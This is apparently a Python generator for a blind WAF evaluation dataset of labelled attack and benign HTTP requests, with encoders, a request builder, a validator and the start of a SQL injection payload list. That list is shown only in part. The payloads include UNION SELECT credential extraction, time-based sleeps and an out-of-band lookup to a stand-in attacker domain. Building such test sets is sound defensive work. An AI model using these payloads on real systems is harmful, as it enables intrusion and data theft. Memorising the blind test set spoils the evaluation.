#!/usr/bin/env python3
# ruff: noqa
"""Generate the blind WAF evaluation set "v17" (waf_unseen_eighth.jsonl).

Provenance
----------
Written blind on 2026-12-07 by a helper session that read none of the WAF's
rules, tests, docs, benchmarks or corpora.  Every payload was written by hand
from general knowledge of the attack technique (not copied from public payload
lists) and every benign request from general knowledge of ordinary API traffic.
Source tag: "v17".  All randomness comes from random.Random(808080); two runs
produce byte-identical output.

Usage: python3 tests/data/make_waf_unseen_eighth.py
Writes waf_unseen_eighth.jsonl next to this script and prints a summary.

Row conventions (one JSON object per line, keys in exactly this order)
----------------------------------------------------------------------
id         "v17-a-<category>-NNNN" for attacks, "v17-b-<category>-NNNN" for
           benign rows, numbered per category from 0001.
label      "attack" or "benign".
category   attacks: code_injection php_injection java_injection sqli rfi ssrf
           cmdi ssti crlf mail_injection ldapi xss path_traversal nosqli xxe
           log4shell (45 rows each); benign: benign_api_json benign_filters
           benign_templates benign_code benign_markdown benign_richtext
           benign_prose benign_search benign_urls benign_files benign_base64
           benign_jwt benign_headers benign_logs benign_commerce (80 rows each).
method     GET / POST / PUT / PATCH / DELETE.
path       raw request path as sent on the wire (percent-encoded), starts "/".
query      raw query string without "?" ("" if none).
headers    JSON object; always Host, User-Agent, Accept, plus Content-Type
           whenever there is a body.  Values are printable ASCII only (no raw
           CR/LF).  Host names are made-up company names.
body       raw body string ("" if none): JSON, urlencoded form,
           multipart/form-data (CRLF framing, boundary in Content-Type), XML,
           or text/plain.
placement  query, query_key, path, json, json_key, form, header, cookie,
           multipart or xml: where the interesting value sits.
payload    that value as the application receives it after the intended
           transport decoding: URL-decoding for query / query_key / path / form
           / cookie, JSON string unescaping, XML entity decoding.  Header values
           and multipart part values are taken as sent (not decoded).  When the
           value is a JSON object or array (NoSQL operator objects, whole API
           bodies) the payload is its compact JSON text.  Inherently encoded
           evasions (double percent-encoding, overlong UTF-8, IIS %u, the
           php-cgi soft-hyphen) are put on the wire verbatim and the payload
           keeps exactly the same literal text (no decoding applied).  Where
           the application itself base64-decodes a field (serialized cookies,
           pickles) the payload is the base64 text as received; the decoded
           content is visible in this script next to the item.
hard       true for attacks that use an evasion (encoding, comments, case,
           whitespace substitutes, concatenation, entity / unicode escapes,
           globbing, ...) and for benign rows deliberately prone to false
           positives.
source     "v17".

About 40 % of each attack category are terse fragments (payload alone as a
parameter value, as a scanner or regression test would send it); the rest
are realistic requests to plausible API endpoints.
"""

import base64
import json
import os
import re
import string
import struct
import sys
import zlib
import hashlib
import random
from urllib.parse import quote, quote_plus, unquote, unquote_plus, parse_qsl

SEED = 808080
SOURCE = "v17"
R = random.Random(SEED)
HERE = os.path.dirname(os.path.abspath(__file__))
OUT = os.path.join(HERE, "waf_unseen_eighth.jsonl")

PLACEMENTS = ["query", "query_key", "path", "json", "json_key", "form", "header", "cookie", "multipart", "xml"]
URLISH = ("query", "query_key", "path", "form", "cookie")

# ---------------------------------------------------------------------------
# small helpers
# ---------------------------------------------------------------------------


def b64(s):
    if isinstance(s, str):
        s = s.encode("utf-8")
    return base64.b64encode(s).decode("ascii")


def b64u(b):
    if isinstance(b, str):
        b = b.encode("utf-8")
    return base64.urlsafe_b64encode(b).rstrip(b"=").decode("ascii")


def b64utf16(s):
    return base64.b64encode(s.encode("utf-16-le")).decode("ascii")


def rbytes(n):
    return bytes(R.getrandbits(8) for _ in range(n))


def hexs(n):
    return "".join(R.choice("0123456789abcdef") for _ in range(n))


def alnum(n, chars=string.ascii_letters + string.digits):
    return "".join(R.choice(chars) for _ in range(n))


def uuid4():
    h = hexs(32)
    return "%s-%s-4%s-%s%s-%s" % (h[:8], h[8:12], h[13:16], R.choice("89ab"), h[17:20], h[20:32])


def iso_ts():
    # a moment in Nov/Dec 2026
    day = R.randint(1, 30)
    month = R.choice([11, 11, 12])
    if month == 12:
        day = R.randint(1, 6)
    return "2026-%02d-%02dT%02d:%02d:%02d%s" % (
        month,
        day,
        R.randint(0, 23),
        R.randint(0, 59),
        R.randint(0, 59),
        R.choice(["Z", ".%03dZ" % R.randint(0, 999), "+01:00", "-05:00"]),
    )


def epoch():
    return 1796000000 + R.randint(0, 600000)


def jcompact(obj):
    return json.dumps(obj, separators=(",", ":"), ensure_ascii=False)


def php_s(s):
    return 's:%d:"%s";' % (len(s.encode("utf-8")), s)


def php_obj(cls, props):
    body = "".join(php_s(k) + v for k, v in props)
    return 'O:%d:"%s":%d:{%s}' % (len(cls), cls, len(props), body)


# ---------------------------------------------------------------------------
# hosts, user agents, headers
# ---------------------------------------------------------------------------

COMPANIES = [
    ("brightkettle.com", ["api", "shop", "app", "checkout"]),
    ("northwindlabs.io", ["api", "app", "console"]),
    ("harborline-insurance.com", ["portal", "api", "claims"]),
    ("quillandfern.co", ["api", "www", "studio"]),
    ("tallgrass.cloud", ["billing", "api", "status"]),
    ("meridianoutfitters.com", ["www", "api", "m"]),
    ("corvid-systems.net", ["hr", "api", "sso"]),
    ("lumenpay.io", ["api", "dashboard", "hooks"]),
    ("stackforge.dev", ["docs", "api", "paste"]),
    ("pinecrest-health.org", ["support", "patient", "api"]),
    ("orbitcrm.io", ["app", "api", "files"]),
    ("kestrelfreight.com", ["api", "track", "partners"]),
    ("bluewillow-media.com", ["cms", "api", "assets"]),
    ("ashford-legal.com", ["intranet", "docs", "api"]),
    ("halcyonbank.com", ["online", "api", "mobile-api"]),
    ("greyfinch.ai", ["api", "app", "ingest"]),
    ("copperlane.store", ["www", "api", "admin"]),
    ("vantagegrid.energy", ["portal", "api"]),
    ("saltmarsh.travel", ["www", "api", "booking"]),
    ("oakridge-univ.edu", ["lms", "api", "library"]),
]


def pick_host():
    d, subs = R.choice(COMPANIES)
    return "%s.%s" % (R.choice(subs), d)


def base_domain(host):
    return ".".join(host.split(".")[-2:])


ATK_DOMAINS = [
    "qz81.callback-probe.net",
    "exfil.darkrelay.io",
    "mal-cdn.top",
    "payloads.redteam-lab.xyz",
    "tk4.hookbin-sink.org",
    "static.cdn-jsdelivr-mirror.com",
    "updates.msft-sync.net",
    "x9c.oob-listener.com",
    "drop.bitbucket-raw.cc",
    "r.lhr-relay.info",
]
ATK_IPS = ["203.0.113.45", "198.51.100.77", "192.0.2.200", "203.0.113.9", "198.51.100.131"]


def fill(v, target=None):
    """Replace placeholders: §A attacker domain, §IP attacker ip, §T target domain."""
    if isinstance(v, str):
        if "§" not in v:
            return v
        a = R.choice(ATK_DOMAINS)
        ip = R.choice(ATK_IPS)
        t = target or base_domain(pick_host())
        return v.replace("§A", a).replace("§IP", ip).replace("§T", t)
    if isinstance(v, dict):
        return {fill(k, target): fill(x, target) for k, x in v.items()}
    if isinstance(v, list):
        return [fill(x, target) for x in v]
    return v


BROWSER_UAS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 15; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.6778.81 Mobile Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36 Edg/131.0.0.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14.6; rv:132.0) Gecko/20100101 Firefox/132.0",
]
CLIENT_UAS = [
    "okhttp/4.12.0",
    "axios/1.7.7",
    "python-requests/2.32.3",
    "Go-http-client/2.0",
    "Dart/3.5 (dart:io)",
    "PostmanRuntime/7.42.0",
    "curl/8.9.1",
    "Apache-HttpClient/5.3.1 (Java/21.0.4)",
    "BrightKettle/5.12.0 (iPhone; iOS 18.1; Scale/3.00)",
    "Faraday v2.12.0",
    "node-fetch",
    "undici",
    "Ktor client",
    "RestSharp/112.1.0.0",
]
TERSE_UAS = [
    "curl/8.5.0",
    "python-requests/2.31.0",
    "Go-http-client/1.1",
    "Wget/1.21.4",
    "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
    "python-httpx/0.27.2",
    "Java/17.0.12",
    "Mozilla/5.0",
]
ACCEPT_JSON = [
    "application/json",
    "application/json, text/plain, */*",
    "*/*",
    "application/json;q=0.9, */*;q=0.8",
    "application/vnd.api+json",
]
ACCEPT_HTML = [
    "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8",
    "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
]
LANGS = [
    "en-US,en;q=0.9",
    "de-DE,de;q=0.9,en;q=0.8",
    "fr-FR,fr;q=0.9,en;q=0.7",
    "ja-JP,ja;q=0.9,en-US;q=0.7",
    "pt-BR,pt;q=0.9,en;q=0.8",
    "en-GB,en;q=0.8",
    "es-ES,es;q=0.9",
    "nl-NL,nl;q=0.9,en;q=0.6",
    "pl-PL,pl;q=0.9,en;q=0.5",
]
SCOPES = [
    "openid profile email",
    "read:orders write:orders",
    "api.read",
    "tickets:read tickets:write",
    "billing:read",
    "files.readwrite offline_access",
]
FIRST = ["maria", "jdoe", "a.khan", "li.wei", "sofia", "tom", "priya", "olek", "yuki", "amara"]


def make_jwt(host=None, claims=None, alg=None, kid=None):
    host = host or pick_host()
    alg = alg or R.choice(["RS256", "RS256", "ES256", "HS256", "PS256"])
    hdr = {"alg": alg, "typ": "JWT"}
    if alg != "HS256":
        hdr["kid"] = kid or R.choice([hexs(16), "2026-11-rsa", alnum(27, string.ascii_letters + string.digits + "-_")])
    now = epoch()
    pl = {
        "iss": "https://auth.%s/" % base_domain(host),
        "sub": R.choice(["usr_", "auth0|", "", "u-"]) + alnum(18),
        "aud": R.choice(["https://%s" % host, "api", alnum(24)]),
        "iat": now,
        "exp": now + R.choice([300, 900, 3600, 86400]),
        "scope": R.choice(SCOPES),
    }
    if claims:
        pl.update(claims)
    sig = {"RS256": 256, "PS256": 256, "ES256": 64, "HS256": 32, "RS512": 512, "ES384": 96}[alg]
    return "%s.%s.%s" % (
        b64u(json.dumps(hdr, separators=(",", ":"))),
        b64u(json.dumps(pl, separators=(",", ":"), ensure_ascii=False)),
        b64u(rbytes(sig)),
    )


def rand_cookie():
    c = [
        ("sid", alnum(32)),
        ("csrftoken", alnum(32)),
        ("_ga", "GA1.2.%d.%d" % (R.randint(10**8, 10**9), epoch())),
        ("locale", R.choice(["en", "de", "fr", "ja"])),
        ("theme", R.choice(["dark", "light"])),
    ]
    R.shuffle(c)
    return "; ".join("%s=%s" % kv for kv in c[: R.randint(1, 3)])


def make_headers(host, terse=False, accept=None, ctype=None, extra=None, cookie=None):
    h = {"Host": host}
    if terse:
        h["User-Agent"] = R.choice(TERSE_UAS)
        h["Accept"] = accept or R.choice(["*/*", "*/*", "application/json", "text/html,*/*;q=0.8"])
    else:
        h["User-Agent"] = R.choice(BROWSER_UAS + CLIENT_UAS)
        h["Accept"] = accept or R.choice(ACCEPT_JSON + ACCEPT_JSON + ACCEPT_HTML)
        if R.random() < 0.4:
            h["Accept-Language"] = R.choice(LANGS)
        if R.random() < 0.45:
            if R.random() < 0.85:
                h["Authorization"] = "Bearer " + make_jwt(host)
            else:
                h["Authorization"] = "Basic " + b64(
                    "%s:%s" % (R.choice(["svc-reporting", "integration", "ci-bot", "partner-7731"]), alnum(20))
                )
        if cookie is None and R.random() < 0.3:
            cookie = rand_cookie()
        if R.random() < 0.3:
            origin = "https://" + R.choice(["app", "www", "dashboard", "admin"]) + "." + base_domain(host)
            h["Origin"] = origin
            if R.random() < 0.7:
                h["Referer"] = origin + R.choice(
                    ["/", "/dashboard", "/orders/%d" % R.randint(1000, 99999), "/settings/profile", "/search"]
                )
        if R.random() < 0.35:
            h["X-Request-ID"] = uuid4()
    if cookie:
        h["Cookie"] = cookie
    if ctype:
        h["Content-Type"] = ctype
    for k, v in (extra or {}).items():
        h[k] = v
    return h


# ---------------------------------------------------------------------------
# encoders
# ---------------------------------------------------------------------------

UNRESERVED = set(string.ascii_letters + string.digits + "-._~")


def rcase(t):
    return t if R.random() < 0.5 else t.lower()


def pct_all(s):
    return "".join(rcase("%%%02X" % b) for b in s.encode("utf-8"))


def pct_mixed(s):
    out = []
    letters = [i for i, ch in enumerate(s) if ch.isalnum() and ch.isascii()]
    force = set(R.sample(letters, min(len(letters), max(1, len(letters) // 4)))) if letters else set()
    for i, ch in enumerate(s):
        if ch in UNRESERVED and i not in force and R.random() < 0.7:
            out.append(ch)
        else:
            out.append("".join(rcase("%%%02X" % b) for b in ch.encode("utf-8")))
    return "".join(out)


def enc_url(s, enc, style="rfc"):
    if enc == "raw":
        return s
    if enc == "full":
        return pct_all(s)
    if enc == "mixed":
        return pct_mixed(s)
    if style == "plus":
        return quote_plus(s, safe="")
    if style == "uric":
        return quote(s, safe="!'()*~")
    return quote(s, safe="")


def enc_key(s, enc, style="rfc"):
    if enc in ("raw", "full", "mixed"):
        return enc_url(s, enc, style)
    if style == "plus":
        return quote_plus(s, safe="[]")
    return quote(s, safe="[]")


PATH_SAFE = "!$'()*+,;=:@~"


def enc_path(s, enc):
    if enc in ("raw", "full", "mixed"):
        return enc_url(s, enc)
    if enc == "slash":
        return quote(s, safe="/" + PATH_SAFE)
    return quote(s, safe=PATH_SAFE)


COOKIE_SAFE = "!#$&'()*+/:<=>?@[]^`{|}~"


def enc_cookie(s, enc):
    if enc in ("raw", "full", "mixed"):
        return enc_url(s, enc)
    return quote(s, safe=COOKIE_SAFE)


class PV(str):
    """Marks the payload string inside a JSON document."""


class PO(object):
    """Marks a payload that is a JSON object/array."""

    def __init__(self, v):
        self.v = v


UESC_TRIG = set("<>'\"()$/{}:;=|&`\\[]%#.@")


def jstr(s, mode):
    if mode == "plain":
        return json.dumps(s, ensure_ascii=False)
    if mode == "ascii":
        return json.dumps(s, ensure_ascii=True)
    out = ['"']
    for ch in s:
        o = ord(ch)
        if (ch in UESC_TRIG and R.random() < 0.8) or (ch.isascii() and ch.isalpha() and R.random() < 0.3):
            out.append(("\\u%04x" if R.random() < 0.5 else "\\u%04X") % o)
        elif o > 0xFFFF:
            out.append(json.dumps(ch)[1:-1])
        else:
            out.append(json.dumps(ch, ensure_ascii=False)[1:-1])
    out.append('"')
    return "".join(out)


def jenc(x, mode, pmode, seps):
    if isinstance(x, PO):
        return jenc(x.v, pmode, pmode, seps)
    if isinstance(x, PV):
        return jstr(str(x), pmode)
    if isinstance(x, str):
        return jstr(x, mode)
    if x is None or isinstance(x, (bool, int, float)):
        return json.dumps(x)
    if isinstance(x, dict):
        parts = []
        for k, v in x.items():
            kk = jstr(str(k), pmode if isinstance(k, PV) else mode)
            parts.append(kk + seps[1] + jenc(v, mode, pmode, seps))
        return "{" + seps[0].join(parts) + "}"
    if isinstance(x, (list, tuple)):
        return "[" + seps[0].join(jenc(v, mode, pmode, seps) for v in x) + "]"
    raise TypeError(type(x))


def xml_text(s, enc):
    if enc == "cdata" and "]]>" not in s and "\r" not in s:
        return "<![CDATA[" + s + "]]>"
    out = []
    for ch in s:
        if ch == "&":
            out.append("&amp;")
        elif ch == "<":
            out.append("&lt;" if enc != "charref" or R.random() < 0.5 else "&#60;")
        elif ch == ">":
            out.append("&gt;")
        elif ch == "\r":
            out.append("&#13;")
        elif (
            enc == "charref"
            and ch != "\n"
            and ((ch in UESC_TRIG and ch not in "<&") or (ch.isascii() and ch.isalpha() and R.random() < 0.3))
        ):
            out.append("&#x%x;" % ord(ch) if R.random() < 0.5 else "&#%d;" % ord(ch))
        else:
            out.append(ch)
    return "".join(out)


def xml_ok_chars(s):
    for ch in s:
        o = ord(ch)
        if o < 0x20 and ch not in "\t\n\r":
            return False
        if 0xFFFE <= o <= 0xFFFF or 0xD800 <= o <= 0xDFFF:
            return False
    return True


def header_ok(s):
    return bool(s) and all(0x20 <= ord(c) < 0x7F for c in s) and s == s.strip()


def boundary():
    st = R.choice(["webkit", "webkit", "gecko", "curl", "py", "okhttp"])
    if st == "webkit":
        return "----WebKitFormBoundary" + alnum(16)
    if st == "gecko":
        return "----geckoformboundary" + hexs(32)
    if st == "curl":
        return "------------------------" + hexs(16)
    if st == "py":
        return hexs(32)
    return uuid4()


def mp_body(parts, b):
    out = []
    for p in parts:
        if p[0] == "field":
            out.append('--%s\r\nContent-Disposition: form-data; name="%s"\r\n\r\n%s\r\n' % (b, p[1], p[2]))
        else:
            _, name, fn, ct, content = p
            out.append(
                '--%s\r\nContent-Disposition: form-data; name="%s"; filename="%s"\r\nContent-Type: %s\r\n\r\n%s\r\n'
                % (b, name, fn, ct, content)
            )
    out.append("--%s--\r\n" % b)
    return "".join(out)


def singular(word):
    w = re.sub(r"[^a-z]", "", word.lower()) or "item"
    if w.endswith("ies"):
        return w[:-3] + "y"
    if w.endswith("ses"):
        return w[:-2]
    if w.endswith("s") and not w.endswith("ss"):
        return w[:-1]
    return w


def root_from_path(path):
    segs = [s for s in path.split("/") if s and not s.startswith("{") and not re.match(r"^v\d+$", s) and s != "api"]
    return singular(segs[-1]) if segs else "request"


# ---------------------------------------------------------------------------
# the request builder
# ---------------------------------------------------------------------------


def body_method(path, form=False):
    """POST to collections / actions; PUT or PATCH only on resource-looking paths."""
    last = path.rstrip("/").split("/")[-1]
    resource = any(ch.isdigit() for ch in last) and not re.match(r"^v\d+$", last)
    if resource and R.random() < 0.6:
        return R.choice(["PUT", "PATCH"]) if not form else "PUT"
    return "POST"


def build(pl, value, ctx, terse=False, enc="std", host=None):
    """Return (method, path, query, headers, body, payload)."""
    host = host or ctx.get("host") or pick_host()
    is_obj = not isinstance(value, str)
    pstr = jcompact(value) if is_obj else value
    style = R.choice(["plus", "uric", "rfc"])
    field = ctx["field"]
    path = ctx["path"]
    q = list(ctx.get("q", {}).items())
    b = list(ctx.get("b", {}).items())
    method = None
    query = ""
    body = ""
    ctype = None
    extra = {}
    cookie = None
    accept = ctx.get("accept")

    def qstring(pairs, pay_idx=None, key_mode=False):
        parts = []
        for i, (k, v) in enumerate(pairs):
            if i == pay_idx:
                if key_mode:
                    kk = enc_key(k, enc, style)
                    parts.append(kk if ctx.get("noval") else kk + "=" + enc_url(v, "std", style))
                else:
                    parts.append(enc_key(k, "std", style) + "=" + enc_url(v, enc, style))
            else:
                parts.append(enc_key(k, "std", style) + "=" + enc_url(v, "std", style))
        return "&".join(parts)

    if pl == "query":
        method = ctx.get("qmethod") or "GET"
        pos = R.randint(0, len(q))
        q.insert(pos, (field, pstr))
        query = qstring(q, pos)
    elif pl == "query_key":
        method = ctx.get("qmethod") or "GET"
        key = (ctx.get("qk") or "{}").replace("{}", pstr)
        pos = R.randint(0, len(q))
        q.insert(pos, (key, ctx.get("qk_val", "1")))
        query = qstring(q, pos, key_mode=True)
        pstr = key
    elif pl == "path":
        method = ctx.get("pmethod") or "GET"
        tpl = ctx.get("ptpl") or (path.rstrip("/") + "/{}")
        penc = enc if enc != "std" else ctx.get("penc", "std")
        path = tpl.replace("{}", enc_path(pstr, penc))
        if q and R.random() < 0.5:
            query = qstring(q)
    elif pl in ("json", "json_key"):
        method = ctx.get("method") or body_method(path)
        if ctx.get("whole") and is_obj:
            obj = PO(value)
        else:
            obj = dict(b)
            if pl == "json":
                obj[field] = PO(value) if is_obj else PV(pstr)
            else:
                inner = {PV(pstr): ctx.get("jk_val", R.choice([1, True, "asc", "x"]))}
                jk = ctx.get("jk")
                if jk:
                    obj[jk] = inner
                else:
                    obj = dict(inner, **{k: v for k, v in obj.items()})
            for w in reversed(ctx.get("jwrap", [])):
                obj = {w: obj} if not isinstance(w, tuple) else dict([w[1]], **{w[0]: obj})
        jmode = enc if enc in ("uesc",) else R.choice(["plain", "plain", "ascii"]) if enc == "std" else enc
        if jmode not in ("plain", "ascii", "uesc"):
            jmode = "plain"
        bodymode = "plain" if jmode == "uesc" else jmode
        seps = R.choice([(",", ":"), (", ", ": ")])
        body = jenc(obj, bodymode, jmode, seps)
        ctype = ctx.get("ctype") or R.choice(
            ["application/json", "application/json", "application/json; charset=utf-8"]
        )
    elif pl == "form":
        method = ctx.get("method") or body_method(path, form=True)
        pos = R.randint(0, len(b))
        b.insert(pos, (field, pstr))
        parts = []
        for i, (k, v) in enumerate(b):
            v = v if isinstance(v, str) else jcompact(v)
            if i == pos:
                parts.append(quote_plus(k) + "=" + enc_url(v, enc, "plus"))
            else:
                parts.append(quote_plus(k) + "=" + quote_plus(v, safe=""))
        body = "&".join(parts)
        ctype = R.choice(["application/x-www-form-urlencoded", "application/x-www-form-urlencoded; charset=UTF-8"])
    elif pl == "multipart":
        method = ctx.get("method") or body_method(path, form=True)
        bd = boundary()
        while bd in pstr:
            bd = boundary()
        parts = [("field", k, v if isinstance(v, str) else jcompact(v)) for k, v in b]
        mode = ctx.get("mpmode", "field")
        if mode == "filename":
            parts.append(
                (
                    "file",
                    ctx.get("mpname", "file"),
                    pstr,
                    ctx.get("mpct", "application/octet-stream"),
                    ctx.get("mpcontent", ""),
                )
            )
        elif mode == "content":
            parts.append(
                ("file", ctx.get("mpname", "file"), ctx.get("mpfn", "upload.txt"), ctx.get("mpct", "text/plain"), pstr)
            )
        else:
            pos = R.randint(0, len(parts))
            parts.insert(pos, ("field", field, pstr))
            if ctx.get("mpfile") and R.random() < 0.6:
                parts.append(("file",) + tuple(ctx["mpfile"]))
        body = mp_body(parts, bd)
        ctype = "multipart/form-data; boundary=" + bd
    elif pl == "xml":
        method = ctx.get("method") or body_method(path)
        if ctx.get("doc"):
            body = pstr
        else:
            root = ctx.get("root") or root_from_path(path)
            inner = "".join(
                "<%s>%s</%s>" % (k, xml_text(v if isinstance(v, str) else jcompact(v), "esc"), k) for k, v in b
            )
            el = "<%s>%s</%s>" % (field, xml_text(pstr, enc if enc in ("esc", "cdata", "charref") else "esc"), field)
            tpl = ctx.get("xmltpl")
            if tpl:
                body = tpl.replace("{others}", inner).replace("{el}", el)
            else:
                decl = R.choice(['<?xml version="1.0" encoding="UTF-8"?>\n', '<?xml version="1.0"?>', ""])
                if R.random() < 0.5:
                    items = [inner, el] if R.random() < 0.6 else [el, inner]
                else:
                    items = [inner, el]
                body = decl + "<%s>%s</%s>" % (root, "".join(items), root)
        ctype = ctx.get("xctype") or R.choice(
            ["application/xml", "application/xml; charset=utf-8", "text/xml; charset=UTF-8"]
        )
    elif pl == "header":
        method = ctx.get("qmethod") or "GET"
        extra[ctx.get("hdr", "X-Test")] = pstr
        if q and R.random() < 0.6:
            query = qstring(q)
    elif pl == "cookie":
        method = ctx.get("qmethod") or "GET"
        others = []
        if not terse and R.random() < 0.6:
            others = [("sid", alnum(26)), ("_ga", "GA1.1.%d.%d" % (R.randint(10**8, 10**9), epoch()))][
                : R.randint(1, 2)
            ]
        ck = [(ctx.get("ck", "id"), enc_cookie(pstr, enc))]
        allc = others + ck
        if len(allc) > 1 and R.random() < 0.5:
            allc = ck + others
        cookie = "; ".join("%s=%s" % kv for kv in allc)
        if q and R.random() < 0.6:
            query = qstring(q)
    else:
        raise ValueError(pl)

    if ctx.get("qbody") and pl in ("query", "query_key") and not body:
        method = "POST"
        body = ctx["qbody"]
        ctype = "text/plain"
    headers = make_headers(host, terse=terse, accept=accept, ctype=ctype, extra=extra, cookie=cookie)
    return method, path, query, headers, body, pstr


# ---------------------------------------------------------------------------
# validation of every row
# ---------------------------------------------------------------------------

BAD_PCT = re.compile(r"%(?![0-9A-Fa-f]{2})")


class RowError(Exception):
    pass


def find_json(x, target, as_key):
    if isinstance(x, dict):
        for k, v in x.items():
            if as_key and k == target:
                return True
            if find_json(v, target, as_key):
                return True
        return False
    if isinstance(x, list):
        return any(find_json(v, target, as_key) for v in x)
    if isinstance(x, str):
        return (not as_key) and x == target
    return False


def find_json_obj(x, target):
    if jcompact(x) == target:
        return True
    if isinstance(x, dict):
        return any(find_json_obj(v, target) for v in x.values())
    if isinstance(x, list):
        return any(find_json_obj(v, target) for v in x)
    return False


def check_xml_wellformed(text):
    import xml.parsers.expat as expat

    p = expat.ParserCreate()
    p.SetParamEntityParsing(expat.XML_PARAM_ENTITY_PARSING_NEVER)
    p.ExternalEntityRefHandler = lambda *a: 1
    try:
        p.Parse(text.encode("utf-8") if isinstance(text, str) else text, True)
    except expat.ExpatError as e:
        msg = str(e)
        if "amplification" in msg or "recursive" in msg:
            return
        raise RowError("xml not well-formed: %s" % msg)


def validate(row, raw=False, novalidate_xml=False, doc=False):
    pl = row["placement"]
    pay = row["payload"]
    h = row["headers"]
    keys = list(h.keys())
    if keys[:3] != ["Host", "User-Agent", "Accept"]:
        raise RowError("header order %r" % keys[:3])
    for k, v in h.items():
        if not header_ok(v) or not re.match(r"^[A-Za-z0-9!#$%&'*+.^_`|~-]+$", k):
            raise RowError("bad header %r: %r" % (k, v))
    if row["body"]:
        if "Content-Type" not in h:
            raise RowError("body without content-type")
    elif "Content-Type" in h:
        raise RowError("content-type without body")
    if not row["path"].startswith("/"):
        raise RowError("path")
    if row["method"] not in ("GET", "POST", "PUT", "PATCH", "DELETE"):
        raise RowError("method")
    if row["method"] == "GET" and row["body"]:
        raise RowError("GET with body")
    if not raw:
        for part in (row["path"], row["query"]):
            if BAD_PCT.search(part):
                raise RowError("bad percent in %r" % part)
        for part in (row["path"], row["query"]):
            if any(ord(c) > 0x7E or ord(c) <= 0x20 for c in part):
                raise RowError("unencoded char in url %r" % part)
    ct = h.get("Content-Type", "")
    body = row["body"]
    if ct.startswith("application/json") or ct.startswith("application/vnd.api+json"):
        obj = json.loads(body)
    if ct.startswith("application/x-www-form-urlencoded") and not raw:
        if BAD_PCT.search(body) or any(ord(c) > 0x7E or ord(c) <= 0x20 for c in body):
            raise RowError("bad form body")
    if ct.startswith("multipart/form-data"):
        bd = ct.split("boundary=", 1)[1]
        if not body.startswith("--" + bd + "\r\n") or not body.endswith("--" + bd + "--\r\n"):
            raise RowError("multipart framing")
        segs = body.split("--" + bd)
        for seg in segs[1:-1]:
            if (
                not seg.startswith('\r\nContent-Disposition: form-data; name="')
                or "\r\n\r\n" not in seg
                or not seg.endswith("\r\n")
            ):
                raise RowError("multipart part framing")
    if "xml" in ct and not novalidate_xml:
        check_xml_wellformed(body)

    # the payload must be recoverable from its placement
    if pl == "query":
        if raw:
            ok = pay in row["query"]
        else:
            ok = pay in [v for k, v in parse_qsl(row["query"], keep_blank_values=True)]
    elif pl == "query_key":
        if raw:
            ok = pay in row["query"]
        else:
            ok = pay in [k for k, v in parse_qsl(row["query"], keep_blank_values=True)]
    elif pl == "path":
        ok = (pay in row["path"]) if raw else (pay in unquote(row["path"]))
    elif pl == "form":
        if raw:
            ok = pay in body
        else:
            ok = pay in [v for k, v in parse_qsl(body, keep_blank_values=True)]
    elif pl == "cookie":
        vals = [
            unquote(c.split("=", 1)[1]) if not raw else c.split("=", 1)[1]
            for c in h.get("Cookie", "").split("; ")
            if "=" in c
        ]
        ok = pay in vals
    elif pl == "header":
        ok = pay in h.values()
    elif pl in ("json", "json_key"):
        obj = json.loads(body)
        ok = find_json(obj, pay, pl == "json_key") or (pl == "json" and find_json_obj(obj, pay))
    elif pl == "multipart":
        ok = pay in body
    elif pl == "xml":
        if doc:
            ok = body == pay
        else:
            import xml.etree.ElementTree as ET

            root = ET.fromstring(body.encode("utf-8"))
            ok = any((el.text or "") == pay for el in root.iter())
    else:
        ok = False
    if not ok:
        raise RowError("payload not found in %s" % pl)


# ---------------------------------------------------------------------------
# attack items
# ---------------------------------------------------------------------------


class Item(object):
    def __init__(
        self,
        v,
        hard=False,
        raw=False,
        only=None,
        no=None,
        mp=None,
        doc=False,
        noval=False,
        qkval=None,
        qbody=None,
        novalidate=False,
        jkval=None,
    ):
        self.v = v
        self.hard = hard or raw
        self.raw = raw
        self.only = set(only) if only else None
        self.no = set(no) if no else set()
        self.mp = mp  # (mode, filename, content-type) for multipart
        self.doc = doc  # full XML document -> whole body in xml placement
        self.noval = noval  # query_key without "=value"
        self.qkval = qkval  # value used next to a query_key payload
        self.qbody = qbody  # text/plain body sent with query / query_key
        self.novalidate = novalidate
        self.jkval = jkval

    def s(self):
        return self.v if isinstance(self.v, str) else jcompact(self.v)


def A(v, **kw):
    return Item(v, **kw)


def H(v, **kw):
    kw["hard"] = True
    return Item(v, **kw)


def RAW(v, **kw):
    kw["raw"] = True
    return Item(v, **kw)


HDR_ONLY = {"header"}

# ---- SQL injection (MySQL, PostgreSQL, MSSQL, Oracle, SQLite) -------------
SQLI = [
    A("' OR '1'='1"),
    A("1 OR 1=1"),
    A("' OR 1=1-- -"),
    A("admin'-- -"),
    A("1' AND SLEEP(5)-- -"),
    A("1) UNION SELECT username,password FROM users-- -"),
    A("' UNION SELECT NULL,NULL,@@version#"),
    A("1;WAITFOR DELAY '0:0:5'--"),
    A("1' AND 1=CONVERT(int,(SELECT TOP 1 name FROM sysobjects WHERE xtype='U'))--"),
    A("1 AND extractvalue(1,concat(0x7e,(SELECT user()),0x7e))"),
    A("1 AND updatexml(1,concat(0x7e,database(),0x7e),1)"),
    A("'||pg_sleep(5)--"),
    A("1;SELECT pg_sleep(5)--"),
    A("1' AND 1=CAST((SELECT version()) AS int)--"),
    A("1 AND 1=(SELECT 1 FROM pg_sleep(5))"),
    A("' AND 1=UTL_INADDR.get_host_address((SELECT user FROM dual)||'.§A')--"),
    A("' UNION SELECT banner,NULL FROM v$version--"),
